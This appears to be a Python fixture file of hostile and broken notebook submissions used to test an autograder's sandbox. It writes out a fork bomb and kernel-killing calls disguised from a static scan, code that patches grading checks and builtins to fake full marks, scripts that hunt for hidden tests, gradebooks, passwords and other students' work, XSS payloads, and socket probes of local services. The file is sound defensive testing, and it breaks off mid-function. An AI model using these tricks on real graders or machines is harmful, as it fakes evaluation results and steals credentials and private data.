"""A class of hostile and broken submissions for 05_exercises, graded end to end by tests/test_hostile.py.

Each student is built from the released notebook like the example class (tests/submissions/a05_exercises.py:
``SOLUTION``, ``BLANK`` or code per solution cell), optionally followed by an ``edit`` of the notebook JSON
(cells added, deleted, duplicated, retyped; tests edited), ``raw`` bytes instead of a notebook, and extra
``files`` next to it. ``expected`` is what each graded cell must score; ``review`` whether the run summary
must list the student for manual review. Cells that print ``LEAK`` report something the sandbox should
have kept from them: the test fails if any output contains that word.

Points: ex1_pooling 1, ex1_shape 1, ex1_field 1; ex2_dropout 1, ex2_block 1, ex2_net 1; ex3_curve 1, ex3_best_epoch 1,
ex3_retrain 1, ex3_figure 1 (10 in all).
Each exercise is graded on its own: Exercise 2's tests build their own blocks from ``conv`` and Exercise 3
trains ``simple_cnn``, so a student whose Exercise 1 does not run can still earn Exercises 2 and 3
in full, and one whose Exercise 2 cell never redefines ``conv`` (it loops, crashes or does not compile)
keeps Exercise 3. Exercise 2's points need a ``conv`` of the student's: the lesson's block earns none.
"""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from submissions.a05_exercises import BLANK, POINTS, SOLUTION  # the example class's markers and points

#: a correct learning curve: the per-epoch loop of the recipe, the best epoch, the retraining, the figure
CURVE_RIGHT = '''
def one_epoch(net, epoch):
    train.fit(net, small, num_epochs=1, lr=LR, batch_size=BATCH_SIZE, seed=epoch, schedule="constant",
              progress=False)


net = fresh_net()
val_losses, train_losses = [], []
for epoch in range(1, EPOCHS + 1):
    one_epoch(net, epoch)
    val_losses.append(train.evaluate(net, small.X_val, small.y_val)[0])
    train_losses.append(train.evaluate(net, small.X_train, small.y_train)[0])
best_epoch = val_losses.index(min(val_losses)) + 1
final_net = fresh_net()
for epoch in range(1, best_epoch + 1):
    one_epoch(final_net, epoch)
fig, ax = plt.subplots()
ax.plot(range(1, EPOCHS + 1), train_losses, label="training")
ax.plot(range(1, EPOCHS + 1), val_losses, label="validation")
ax.axvline(best_epoch)
ax.set_xlabel("epoch")
ax.set_ylabel("loss")
ax.legend()
'''
CONV_RIGHT = '''
class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p

    def forward(self, x):
        return x * (torch.rand_like(x) >= self.p) / (1 - self.p) if self.training else x


def conv(ic, oc, act=True):
    """3x3 stride-2 convolution; with act: then ReLU, then your Dropout with p = 0.5."""
    layer = nn.Conv2d(ic, oc, kernel_size=3, stride=2, padding=1)
    if not act:
        return layer
    return nn.Sequential(layer, nn.ReLU(), Dropout(0.5))
'''
CONV_NO_DROPOUT = '''
def conv(ic, oc, act=True):
    layer = nn.Conv2d(ic, oc, 3, 2, 1)
    return nn.Sequential(layer, nn.ReLU()) if act else layer
'''


def points(**got: int) -> dict[str, int]:
    """Zero everywhere except the cells given (cell=points obtained)."""
    return {**{k: 0 for k in POINTS}, **got}


EX1 = dict(ex1_pooling=1, ex1_shape=1, ex1_field=1)
EX2 = dict(ex2_dropout=1, ex2_block=1, ex2_net=1)
EX3 = dict(ex3_curve=1, ex3_best_epoch=1, ex3_retrain=1, ex3_figure=1)


@dataclass
class Student:
    what: str
    answers: dict[str, str]
    expected: dict[str, int]
    review: bool | None = False  # None: either (depends on the machine, see memory_hog)
    edit: Callable[[dict], dict] | None = None
    raw: bytes | None = None
    files: dict[str, str] = field(default_factory=dict)
    make: Callable[[Path, Path], None] | None = None  # (notebook path, course): puts a link or pipe there instead


# -- notebook edits ----------------------------------------------------------------------------------------


def _cells(nb: dict, gid: str) -> list[int]:
    return [i for i, c in enumerate(nb["cells"]) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid]


def _code(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def add_after(gid: str, source: str) -> Callable[[dict], dict]:
    def edit(nb: dict) -> dict:
        i = _cells(nb, gid)[-1]
        nb["cells"].insert(i + 1, _code(source))
        return nb
    return edit


def mess_up_structure(nb: dict) -> dict:
    """Correct answers, but: a test cell and a read-only cell deleted, a test cell and a solution cell
    duplicated (the earlier copy of the solution is wrong), cells moved, a solution and a test cell turned
    into Markdown, the points of a test raised, a locked cell unlocked and emptied, the kernelspec changed."""
    cells = nb["cells"]
    by = lambda gid: cells[_cells(nb, gid)[0]]  # noqa: E731
    wrong_ex1 = dict(by("ex1_solution"), source="def pool_cnn():\n    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))\n")
    by("ex1_pooling")["cell_type"] = "markdown"                      # a test turned into Markdown
    by("ex1_pooling").pop("outputs", None)
    by("ex1_pooling").pop("execution_count", None)
    by("ex2_net")["metadata"]["nbgrader"]["points"] = 100            # points raised
    by("setup")["metadata"]["nbgrader"]["locked"] = False           # the setup cell unlocked...
    by("ex3_data")["source"] = "small = None\n"                      # ... and a read-only cell edited
    sol3 = by("ex3_solution")
    sol3["cell_type"] = "markdown"                                     # a solution cell turned into Markdown
    sol3.pop("outputs", None)
    sol3.pop("execution_count", None)
    ex2_block = json.loads(json.dumps(by("ex2_block")))
    drop = {_cells(nb, "ex3_best_epoch")[0], _cells(nb, "ex2_rebuild")[0]}  # a test and a read-only cell deleted
    out = [c for i, c in enumerate(cells) if i not in drop]
    i1 = next(i for i, c in enumerate(out) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "ex1_solution")
    out.insert(i1, wrong_ex1)                                          # an earlier, wrong copy of the solution
    out.append(ex2_block)                                              # a test duplicated at the end
    setup = next(c for c in out if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "setup")
    out.remove(setup)
    out.insert(3, setup)                                               # the setup cell moved down
    nb["cells"] = out
    nb["metadata"]["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


def gut_the_tests(nb: dict) -> dict:
    """Blank answers; every test replaced by ``pass`` (or by a number: nbgrader's partial credit), test
    metadata stripped or turned into solution cells, points raised."""
    for i, cell in enumerate(nb["cells"]):
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            cell["source"] = "pass\n" if i % 2 else "1000\n"
            meta["points"] = 1000
            if i % 3 == 0:
                meta.update(locked=False, solution=True)
    nb["cells"].append(_code("print('all tests passed')"))
    return nb


# -- code --------------------------------------------------------------------------------------------------

LOOP_FOREVER = '''
# an endless loop before the definition: the cell times out and conv is never redefined
while True:
    pass
''' + CONV_RIGHT

STUBBORN_LOOP = '''
# an endless loop that swallows the timeout's interrupt: the kernel has to be restarted
import time
while True:
    try:
        time.sleep(0.2)
    except KeyboardInterrupt:
        pass
'''

MEMORY_HOG = '''
# memory without bound: stopped by the address-space limit (MemoryError), before conv is defined
chunks = []
while True:
    chunks.append(bytearray(256 * 2 ** 20))
''' + CONV_RIGHT

FORK_BOMB = '''
# a fork bomb (written so that the static scan does not see it): contained by the process limit
import os
spawn = getattr(os, "fo" + "rk")
children = []
while True:
    children.append(spawn())
''' + CONV_RIGHT

HIDDEN_EXIT = '''
# kills the kernel (os._exit, hidden from the scan): the kernel is restarted and grading goes on
import os
getattr(os, "_ex" + "it")(3)
''' + CONV_RIGHT

OS_EXIT = '''
def pool_cnn():
    return nn.Sequential(conv(1, 8), nn.MaxPool2d(2), conv(8, 16), nn.MaxPool2d(2), conv(16, 10, act=False),
                         nn.Flatten())

import os
os._exit(0)
'''

EXCEPTION_EX1 = '''
raise ValueError("I give up on this one")
'''

SYNTAX_ERROR_EX2 = '''
def conv(ic, oc, act=True)
    return nn.Conv2d(ic, oc, 3, 2, 1
'''

#: Exercise 1 passes by patching the checks and importlib.reload; Exercise 2 raises SystemExit inside the
#: test; Exercise 3 shadows builtins and fakes the curves. All of it is seen by the scan.
PATCH_CHECKS = '''
import importlib
import cnnlib.grading as G
G.check_pool_swap = lambda *a, **k: None
G.check_logits_shape = lambda *a, **k: None
_fake = G
importlib.reload = lambda module: _fake

def pool_cnn():
    return nn.Linear(1, 1)
'''
EXIT_IN_TEST = '''
def conv(ic, oc, act=True):
    raise SystemExit("no test can fail if it never finishes")
'''
SHADOW_BUILTINS = '''
class FakeHistory(list):
    def __eq__(self, other):
        return True

def isinstance(obj, kinds):
    return True

def len(obj):
    return 99

val_losses = train_losses = FakeHistory()
best_epoch = 1
final_net = None
fig = None
'''

#: patches torch, numpy and builtins in a cell of its own (after Exercise 1's solution), then writes a
#: wrong Exercise 2; Exercise 3 hides errors with IPython hooks
PATCH_LIBRARIES = '''
import numpy as np
import builtins
torch.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
builtins.isinstance = lambda *a: True
setattr(torch, "equal", lambda *a: True)
'''
HIDE_ERRORS = '''
import sys
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
sys.excepthook = lambda *a: None
ip.events.register("post_run_cell", lambda result: None)
''' + CURVE_RIGHT

#: tampering the scan cannot see (the dict of a module, reached through a variable): the runtime guard
#: sees importlib.reload replaced before Exercise 2's tests, which then score 0, like everything after
RUNTIME_TAMPER = '''
import importlib, types
_fake = types.ModuleType("fake")
_fake.check_dropout_block = _fake.check_dropout_net = _fake.check_pool_swap = lambda *a, **k: None
_fake.check_logits_shape = _fake.check_learning_curve = _fake.check_best_epoch = lambda *a, **k: None
_fake.check_logits_block = lambda *a, **k: None
_fake.check_curve_figure = _fake.check_curve = _fake.check_retrained = lambda *a, **k: None
_fake.check_dropout = _fake.check_shapes_and_params = _fake.check_receptive_field = lambda *a, **k: None
_fake.trace = lambda net, x, train_mode=False: ([], None)
_fake.DROPOUT_TYPES = (object,)
namespace = vars(importlib)
namespace["re" + "load"] = lambda module: _fake
''' + CONV_NO_DROPOUT

#: looks around the machine from the grading kernel: prints LEAK for anything it should not reach.
#: (tests/test_hostile.py also runs it outside the sandbox, with DRY_RUN and ROOTS set, to show that it
#: does find them there.)
SPY = r"""
# Look for the hidden tests, the solutions, the gradebook and other students' work
import os, pathlib, time
try:
    DRY_RUN
except NameError:
    DRY_RUN = False
sep = chr(47)
secrets = ("_g.check_pool_swap(pool_cnn, n=5)", "BEGIN HIDDEN", "nn.MaxPool2d(2),          # 8 x 7 x 7",
           "CANARY-" + "ANSWER", "CANARY-" + "HIDDEN")  # (the canaries of net_victim's answers, the hidden tests)
skip = {".venv", "venv", ".git", ".library", "site-packages", "node_modules", "__pycache__", "proc", "sys", "dev"}
try:
    todo = [pathlib.Path(r) for r in ROOTS]
except NameError:
    todo = [pathlib.Path(sep + name) for name in ("work", "tmp", "home", "root", "srv", "opt", "var", "run", "mnt",
                                                  "builds", "workspace", "data")]
found, seen, deadline = [], 0, time.monotonic() + 30
while todo and seen < 200_000 and time.monotonic() < deadline:
    folder = todo.pop()
    try:
        entries = list(folder.iterdir())
    except OSError:
        continue
    if any(e.name == "pyvenv.cfg" for e in entries):
        continue
    for e in entries:
        seen += 1
        try:
            if e.is_symlink():
                continue
            if e.is_dir():
                if e.name not in skip:
                    todo.append(e)
            elif e.suffix in (".ipynb", ".db", ".py", ".json", ".csv", ".txt") or (e.name, e.parent.name) == ("password", ".pg"):
                found.append(e)
        except OSError:
            pass
courses = set()
for p in found:
    try:
        text = p.read_text(errors="ignore")
    except OSError:
        continue
    if any(s in text for s in secrets) or (text and (p.name in ("gradebook.db", "grades.csv") or p.parent.name == ".pg")):
        print("LEAK read", p)
        courses.add(p.parent)
    if p.suffix in (".db", ".ipynb") and not DRY_RUN:
        try:
            with open(p, "a") as f:
                f.write("")
            print("LEAK writable", p)
        except OSError:
            pass
for key, value in os.environ.items():
    if key in ("NBGRADER_DB_URL", "PGPASSWORD") or key.startswith("PG") or ("://" in value and "@" in value):
        print("LEAK env", key)
others = []
for d in pathlib.Path(sep + "proc").iterdir():
    try:
        if d.name.isdigit() and d.stat().st_uid != os.getuid():
            others.append(d.name)
    except OSError:
        pass
if others:
    print("LEAK processes of other users:", len(others))
for folder in sorted(courses)[:20]:
    if not DRY_RUN:
        try:
            (folder / "planted-by-spy.txt").write_text("x")
            print("LEAK wrote into", folder)
        except OSError:
            pass
print("SPY-DONE", seen, "entries looked at,", len(found), "files read, uid", os.getuid())
"""

NOISY = '''
# a student who debugs on stderr and leaves warnings on
import sys, warnings
warnings.simplefilter("always")
print("debug: building the pooling network", file=sys.stderr)
warnings.warn("this is only a warning")

def pool_cnn():
    print("pool_cnn called", file=sys.stderr)
    warnings.warn("pool_cnn is noisy")
    return nn.Sequential(conv(1, 8), nn.MaxPool2d(2), conv(8, 16), nn.MaxPool2d(2), conv(16, 10, act=False),
                         nn.Flatten())


print("debug: the numbers", file=sys.stderr)
shapes = [(8, 14, 14), (8, 7, 7), (16, 4, 4), (16, 2, 2), (10, 1, 1)]
params_pool, params_simple, receptive_field = 2698, 9034, 53
'''
NOISY_CONV = CONV_RIGHT.replace('    layer = nn.Conv2d', '    print("conv", ic, oc, file=sys.stderr)\n'
                                '    warnings.warn("conv is noisy too")\n    layer = nn.Conv2d')

FLOOD = '''
# floods the output: one 100 MB message (refused) and 20 MB of lines (capped)
print("x" * 100_000_000)
for i in range(200_000):
    print("line", i, "." * 90)
'''

#: reads the environment of this process, of its parent (the launcher) and of init, and lists its open
#: descriptors: LEAK for the gradebook URL, a password, root's home, the launcher's settings or a file of
#: the grader's (its log) held open
ENV_FD_SPY = r"""
# What the kernel inherited from the grader: environments and open files
import os, pathlib
sep = chr(47)
proc = pathlib.Path(sep + "proc")
pids = ["self", "1", str(os.getppid())]
marks = ("NBGRADER_DB_URL", "PGPASSWORD", "fake-grader-secret", "HOME=" + sep + "root", "CNN_SANDBOX_HIDE",
         "CNN_SANDBOX_UID", "gradebook", "autograded", "submitted")
for pid in pids:
    try:
        env = (proc / pid / "environ").read_bytes().decode(errors="ignore")
    except OSError:
        continue
    print("environ of", pid, "read:", len(env), "bytes")
    for mark in marks:
        if mark in env:
            print("LEAK environ", pid, mark)
home = os.path.realpath(os.path.expanduser("~"))
for fd in sorted((proc / "self" / "fd").iterdir(), key=lambda p: int(p.name)):
    try:
        target = os.readlink(fd)
    except OSError:
        continue
    if target.startswith(sep) and not target.startswith(home + sep) and target != os.devnull \
            and not target.startswith(sep + "proc" + sep) and not target.startswith(sep + "dev" + sep + "urandom"):
        print("LEAK fd", fd.name, target)
# what another kernel may have left: SysV objects, files in the world-writable folders
for kind in ("shm", "msg", "sem"):
    try:
        rows = (proc / "sysvipc" / kind).read_text().splitlines()[1:]
    except OSError:
        continue
    if rows:
        print("LEAK sysvipc", kind, len(rows))
for folder in (sep + "run" + sep + "lock", sep + "tmp", sep + "var" + sep + "tmp", sep + "dev" + sep + "shm"):
    try:
        planted = [e.name for e in pathlib.Path(folder).iterdir() if e.name.startswith("cnn-planted")]
    except OSError:
        continue
    if planted:
        print("LEAK left in", folder, planted)
print("ENV-FD-SPY-DONE")
"""

#: scores steered from student code: the functions the tests call put a result on the display hook (a
#: string: nbgrader's full marks; a number: its partial credit) before the test fails
SCORE_BY_DISPLAY = """
import sys
_show = getattr(sys, "display" + "hook")

def pool_cnn():
    _show("all tests passed")
    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))

def conv(ic, oc, act=True):
    _show(2)
    from IPython.display import display
    display(2)
    return nn.Identity()
"""
#: prints its input history and the calling test's source, base64 (wrapped) and as HTML entities, from
#: the function the hidden tests call; a Markdown cell and an output carry <script> and event handlers
ENCODE_HISTORY = """
import base64, html, linecache, sys
import IPython
from IPython.display import HTML, display

def _leak():
    shell = getattr(IPython, "get_" + "ipython")()
    text = "\\n".join(shell.user_ns.get("_" + "ih", []))
    caller = getattr(sys, "_get" + "frame")(2)
    text += "\\n".join(linecache.getlines(getattr(caller, "f_" + "code").co_filename))
    print(base64.encodebytes(text.encode()).decode())
    print(base64.b64encode(text.encode()).decode())
    display(HTML("<pre>" + "".join(f"&#{ord(ch)};" for ch in text) + "</pre>"))

def pool_cnn():
    _leak()
    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
"""
SCRIPT_MARKDOWN = ('Exercise 1 <script>alert("LEAK-XSS")</script> <img src="x" onerror="alert(\'LEAK-XSS\')">'
                   ' <a href="javascript:alert(\'LEAK-XSS\')">notes</a> <iframe src="https://example.com/LEAK-XSS"></iframe>')
SCRIPT_OUTPUT = "# an HTML output with an event handler\nfrom IPython.display import HTML, display\n" \
                "display(HTML('<b onmouseover=\"alert(1)\">LEAK-XSS-OUT</b><script>alert(2)</script>'))"


def add_markdown_and_code(gid: str, markdown: str, code: str) -> Callable[[dict], dict]:
    def edit(nb: dict) -> dict:
        i = _cells(nb, gid)[-1]
        nb["cells"][i + 1:i + 1] = [{"cell_type": "markdown", "metadata": {}, "source": markdown}, _code(code)]
        return nb
    return edit


#: 144 MB through display updates: 40 copies of one display_id, each update rewrites all of them
DISPLAY_FLOOD = """
# update_display and display_id: every copy of an id is rewritten by each update
from IPython.display import display, update_display
for i in range(40):
    display("x", display_id="flood")
for i in range(12):
    update_display("y" * 3_000_000 + str(i), display_id="flood")
    display("z" * 100_000, display_id="flood")
"""
#: leaves SysV shared memory, a message queue, a semaphore and files in the world-writable folders
IPC_PLANT = r"""
# Leave things for the next kernel with this uid
import os, pathlib
sep = chr(47)
getattr(os, "sys" + "tem")("ipcmk -M 4096 >" + os.devnull + " && ipcmk -Q >" + os.devnull + " && ipcmk -S 1 >" + os.devnull)
for folder in (sep + "run" + sep + "lock", sep + "tmp", sep + "var" + sep + "tmp", sep + "dev" + sep + "shm"):
    try:
        (pathlib.Path(folder) / f"cnn-planted-{os.getuid()}").write_text("x")
    except OSError as err:
        print("could not plant in", folder, err)
rows = [len((pathlib.Path(sep + "proc") / "sysvipc" / k).read_text().splitlines()) - 1 for k in ("shm", "msg", "sem")]
print("IPC-PLANTED", rows)
"""
#: a slow cell that is replayed after each of two crashes: the replays count toward the notebook budget
SLOW_SETUP = "# a slow, replayed cell\nimport time\ntime.sleep(3)\n"
CRASH = "# kills the kernel\nimport os\ngetattr(os, '_ex' + 'it')(3)\n"


def add_cells_after(gid: str, *sources: str) -> Callable[[dict], dict]:
    def edit(nb: dict) -> dict:
        i = _cells(nb, gid)[-1]
        nb["cells"][i + 1:i + 1] = [_code(src) for src in sources]
        return nb
    return edit


FAKE_GRADING = '''"""A fake cnnlib.grading planted next to the notebook: every check passes."""
def __getattr__(name):
    return lambda *a, **k: None
'''

STUDENTS: dict[str, Student] = {
    # -- endless, greedy and crashing code ----------------------------------------------------------------
    "loop_forever": Student("an endless loop in Exercise 2's cell: it times out, the rest is graded",
                            {"ex1_solution": SOLUTION, "ex2_solution": LOOP_FOREVER, "ex3_solution": CURVE_RIGHT},
                            points(**EX1, **EX3)),
    "stubborn_loop": Student("an endless loop in Exercise 3 that ignores the interrupt: kernel restarted, "
                             "earlier cells replayed, the rest graded",
                             {"ex1_solution": SOLUTION, "ex2_solution": SOLUTION, "ex3_solution": STUBBORN_LOOP},
                             points(**EX1, **EX2), review=True),
    "memory_hog": Student("allocates memory without bound in Exercise 2: a MemoryError at the address-space limit "
                          "(or, where the libraries map little address space, the memory cgroup kills the kernel, "
                          "which is restarted: listed for review)",
                          {"ex1_solution": SOLUTION, "ex2_solution": MEMORY_HOG, "ex3_solution": BLANK},
                          points(**EX1), review=None),
    "fork_bomb": Student("a fork bomb in Exercise 2 (hidden from the scan): capped by the process limits, the "
                         "children are killed after the cell",
                         {"ex1_solution": SOLUTION, "ex2_solution": FORK_BOMB, "ex3_solution": CURVE_RIGHT},
                         points(**EX1, **EX3)),
    "hidden_exit": Student("os._exit in Exercise 2, hidden from the scan: the kernel dies, is restarted with the "
                           "earlier cells replayed, and grading goes on",
                           {"ex1_solution": SOLUTION, "ex2_solution": HIDDEN_EXIT, "ex3_solution": CURVE_RIGHT},
                           points(**EX1, **EX3), review=True),
    "os_exit": Student("os._exit at the end of a correct Exercise 1: the scan stops the cell, Exercise 1 "
                       "scores 0 and is flagged; the rest is graded",
                       {"ex1_solution": OS_EXIT, "ex2_solution": SOLUTION, "ex3_solution": BLANK},
                       points(**EX2), review=True),
    # -- broken code --------------------------------------------------------------------------------------
    "exception_ex1": Student("Exercise 1 raises; Exercise 2, which does not depend on it, earns its points",
                             {"ex1_solution": EXCEPTION_EX1, "ex2_solution": SOLUTION, "ex3_solution": BLANK},
                             points(**EX2)),
    "syntax_error_ex2": Student("a syntax error in Exercise 2; Exercises 1 and 3 are graded",
                                {"ex1_solution": SOLUTION, "ex2_solution": SYNTAX_ERROR_EX2, "ex3_solution": CURVE_RIGHT},
                                points(**EX1, **EX3)),
    "broken_json": Student("the file is not JSON: graded as handed in blank", {}, points(), review=True,
                           raw=b'{"cells": [ {"cell_type": "code", "source": "def pool_cnn(): ...'),
    "not_a_notebook": Student("valid JSON but not a notebook: graded as handed in blank", {}, points(), review=True,
                              raw=json.dumps({"cells": "all of them", "metadata": []}).encode()),
    # -- structure ----------------------------------------------------------------------------------------
    "messed_structure": Student("correct answers in a notebook whose cells were deleted, duplicated, moved, "
                                "retyped and edited: graded as the instructor wrote the tests",
                                {"ex1_solution": SOLUTION, "ex2_solution": SOLUTION, "ex3_solution": CURVE_RIGHT},
                                points(**EX1, **EX2, **EX3), edit=mess_up_structure),
    "gutted_tests": Student("blank answers, every test replaced by `pass` or a number, points raised",
                            {"ex1_solution": BLANK, "ex2_solution": BLANK, "ex3_solution": BLANK},
                            points(), edit=gut_the_tests),
    "planted_module": Student("blank answers and a fake cnnlib/grading.py and torch.py next to the notebook",
                              {"ex1_solution": BLANK, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(),
                              files={"cnnlib/__init__.py": "", "cnnlib/grading.py": FAKE_GRADING,
                                     "torch.py": "raise SystemExit"}),
    # -- passing without solving -------------------------------------------------------------------------
    "patch_checks": Student("patches cnnlib.grading and importlib.reload (Exercise 1), raises SystemExit in "
                            "the tests (Exercise 2), shadows isinstance/len with fake curves (Exercise 3)",
                            {"ex1_solution": PATCH_CHECKS, "ex2_solution": EXIT_IN_TEST,
                             "ex3_solution": SHADOW_BUILTINS}, points(), review=True),
    "patch_libraries": Student("patches torch.allclose, np.testing and builtins.isinstance in a cell of its own "
                               "after Exercise 1; hides errors with IPython hooks in Exercise 3",
                               {"ex1_solution": SOLUTION, "ex2_solution": SOLUTION, "ex3_solution": HIDE_ERRORS},
                               points(**EX2), review=True, edit=add_after("ex1_solution", PATCH_LIBRARIES)),
    "runtime_tamper": Student("replaces importlib.reload through vars(importlib), which the scan does not "
                              "see: the runtime guard does, and everything from Exercise 2 on scores 0",
                              {"ex1_solution": SOLUTION, "ex2_solution": RUNTIME_TAMPER, "ex3_solution": CURVE_RIGHT},
                              points(**EX1), review=True),
    "spy": Student("looks for hidden tests, solutions, the gradebook, other students' files, secrets in the "
                   "environment and other users' processes, and tries to write outside its folder",
                   {"ex1_solution": SOLUTION, "ex2_solution": SOLUTION, "ex3_solution": BLANK},
                   points(**EX1, **EX2), edit=add_after("ex2_solution", SPY)),
    # -- noise --------------------------------------------------------------------------------------------
    "noisy_stderr": Student("correct, but prints to stderr and warns, also inside the functions the tests call",
                            {"ex1_solution": NOISY, "ex2_solution": "import sys, warnings\n" + NOISY_CONV,
                             "ex3_solution": CURVE_RIGHT}, points(**EX1, **EX2, **EX3)),
    "output_flood": Student("floods the output of a cell of its own (a 100 MB message, then 20 MB of lines)",
                            {"ex1_solution": SOLUTION, "ex2_solution": SOLUTION, "ex3_solution": BLANK},
                            points(**EX1, **EX2), edit=add_after("ex2_solution", FLOOD)),
    # -- what the kernel inherits ---------------------------------------------------------------------------
    "env_fd_spy": Student("reads its own, the launcher's and init's environment and lists its open descriptors",
                          {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK},
                          points(**EX1), edit=add_after("ex1_solution", ENV_FD_SPY)),
    # -- steering the score and the feedback ----------------------------------------------------------------
    "score_by_display": Student("wrong answers whose functions put a string or a number on the display hook "
                                "before the tests fail: nbgrader would read full or partial marks",
                                {"ex1_solution": SCORE_BY_DISPLAY, "ex2_solution": BLANK, "ex3_solution": BLANK},
                                points()),
    "encode_history": Student("prints its input history and the calling test base64- and HTML-encoded from the "
                              "function the tests call; <script> and event handlers in Markdown and an output",
                              {"ex1_solution": ENCODE_HISTORY, "ex2_solution": BLANK, "ex3_solution": BLANK},
                              points(), edit=add_markdown_and_code("ex1_solution", SCRIPT_MARKDOWN, SCRIPT_OUTPUT)),
    # -- limits with holes ----------------------------------------------------------------------------------
    "display_flood": Student("144 MB through update_display and a repeated display_id: capped like printing",
                             {"ex1_solution": BLANK, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(),
                             edit=add_after("ex1_solution", DISPLAY_FLOOD)),
    "ipc_plant": Student("leaves SysV shared memory, a message queue, a semaphore and files in /run/lock, /tmp, "
                         "/var/tmp and /dev/shm: gone after grading, never seen by another kernel",
                         {"ex1_solution": BLANK, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(),
                         edit=add_after("ex1_solution", IPC_PLANT)),
    "crash_replay": Student("a slow cell, then two cells that kill the kernel: both replays count toward the budget",
                            {"ex1_solution": BLANK, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(),
                            review=True, edit=add_cells_after("ex1_solution", SLOW_SETUP, CRASH, CRASH)),
}

# -- what is handed in besides a notebook, and what once stopped the whole run (issue 12) ------------------


def link_to(target: str) -> Callable[[Path, Path], None]:
    """The notebook handed in as a symbolic link to ``target`` (relative to the course folder; ``{a}`` is the
    assignment, ``{nb}`` the notebook's file name)."""
    def make(notebook: Path, course: Path) -> None:
        notebook.symlink_to(course / target.format(a=notebook.parent.name, nb=notebook.name))
    return make


def linked_folder(notebook: Path, course: Path) -> None:
    """The assignment folder handed in as a symbolic link to the instructor's source/ folder."""
    notebook.parent.rmdir()
    notebook.parent.symlink_to(course / "source" / notebook.parent.name, target_is_directory=True)


def named_pipe(notebook: Path, course: Path) -> None:
    """A fifo where the notebook belongs: opening it for reading would block until someone writes."""
    import os

    os.mkfifo(notebook)


#: nested 20,000 deep (Python's parser gives up: RecursionError), and a 6.6 MB cell
DEEP_EXPRESSION = "# a sum nested 20,000 deep\ntotal = " + "1 + " * 20_000 + "1\n"
HUGE_CELL = "# a table pasted into the cell\nTABLE = [" + "0, " * 2_200_000 + "]\n"

STUDENTS.update({
    "link_to_source": Student("the notebook is a symbolic link to source/ (solutions and hidden tests): refused, "
                              "graded as handed in blank", {}, points(), review=True,
                              make=link_to("source/{a}/{nb}")),
    "link_to_other": Student("the notebook is a symbolic link to another student's (messed_structure, full marks): "
                             "refused, graded as handed in blank", {}, points(), review=True,
                             make=link_to("submitted/messed_structure/{a}/{nb}")),
    "linked_folder": Student("the assignment folder is a symbolic link to source/: refused, graded as handed in blank",
                             {}, points(), review=True, make=linked_folder),
    "pipe_notebook": Student("a named pipe instead of the notebook: refused without opening it (a read would hang "
                             "the run), graded as handed in blank", {}, points(), review=True, make=named_pipe),
    "early_timestamp": Student("a timestamp.txt claiming the year 2000: ignored, the grader's own time is recorded",
                               {"ex1_solution": SOLUTION, "ex2_solution": SOLUTION, "ex3_solution": BLANK},
                               points(**EX1, **EX2), files={"timestamp.txt": "2000-01-01 00:00:00.000000 UTC\n"}),
    "lone_surrogate": Student("a lone surrogate (\\ud800) in a cell: the notebook cannot be written back as UTF-8, "
                              "graded as handed in blank (it used to end the run)",
                              {"ex1_solution": SOLUTION, "ex2_solution": SOLUTION, "ex3_solution": BLANK}, points(),
                              review=True, edit=add_after("ex1_solution", "note = '\ud800'\n")),
    "deep_expression": Student("Exercise 1's cell holds an expression nested 20,000 deep: not scanned, not run, "
                               "flagged; the rest is graded (it used to end the run)",
                               {"ex1_solution": DEEP_EXPRESSION, "ex2_solution": SOLUTION, "ex3_solution": BLANK},
                               points(**EX2), review=True),
    "huge_cell": Student("a 6.6 MB cell in Exercise 2: over the grader's cell limit, not scanned, not run, flagged; "
                         "the rest is graded", {"ex1_solution": SOLUTION, "ex2_solution": HUGE_CELL,
                                                "ex3_solution": BLANK}, points(**EX1), review=True),
})

# -- attacks by kind (issue 12): the network, what is left behind, reading, grades, limits ------------------
#
# Each attack below hides what it uses from the static scan (getattr with built names, modules loaded by
# name), because the scan is not the wall under test here: the sandbox is. Each prints ``<NAME>-DONE`` at
# its end, so a test can tell that it ran; ``LEAK`` lines are what it should not have been able to do.

#: unique strings the tests plant and then look for in every output and feedback page of the class:
#: in the hidden tests of the course copy, in one student's answers, in the grader's environment
HIDDEN_CANARY = "CANARY-HIDDEN-9d41c7e2"
ANSWER_CANARY = "CANARY-ANSWER-5be2a0f3"
ENV_CANARY = "CANARY-ENV-71c0d9aa"
GRADER_SECRET = "fake-grader-secret-pw"  # the PGPASSWORD the hostile run gives the grader
#: replaced by build.write_class with the (kind, host, port or socket name) list of the test's listeners
TARGETS_TOKEN = "__HOSTILE_TARGETS__"

#: the preamble every attack starts with: modules the scan would refuse, loaded by name
_PRE = '''import importlib, json, os, pathlib, time
_load = getattr(importlib, "import_" + "module")
sk = _load("soc" + "ket")
sep = chr(47)
proc = pathlib.Path(sep + "proc")
'''

#: the test's listeners (127.0.0.1, every interface address, ::1, UDP, unix path and abstract sockets;
#: the PostgreSQL server when the run uses one): the kernel must reach none
NET_LISTENER = "# Reach the grader's side of the machine: the test's listeners, on every local address\n" + _PRE + r'''
TARGETS = __HOSTILE_TARGETS__


def addresses():
    found = {"127.0.0.1", "::1"}
    try:
        lines = (proc / "net" / "fib_trie").read_text().splitlines()
        found.update(a.split()[-1] for a, b in zip(lines, lines[1:]) if "32 host LOCAL" in b)
    except OSError:
        pass
    try:
        for line in (proc / "net" / "if_inet6").read_text().splitlines():
            h = line.split()[0]
            found.add(":".join(h[i:i + 4] for i in range(0, 32, 4)))
    except OSError:
        pass
    try:
